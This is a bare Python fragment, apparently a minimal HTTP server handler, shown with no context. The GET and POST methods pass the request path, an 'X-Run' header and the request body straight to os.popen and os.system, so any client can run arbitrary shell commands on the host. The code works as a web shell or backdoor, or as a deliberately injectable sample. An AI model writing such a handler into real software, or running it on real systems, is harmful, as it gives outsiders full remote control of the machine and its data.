class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        q = self.path
        self.run(q)

    def do_POST(self):
        os.system(self.headers["X-Run"])
        data = self.rfile.read(10)
        os.system(data)

    def run(self, cmd):
        os.popen(cmd)
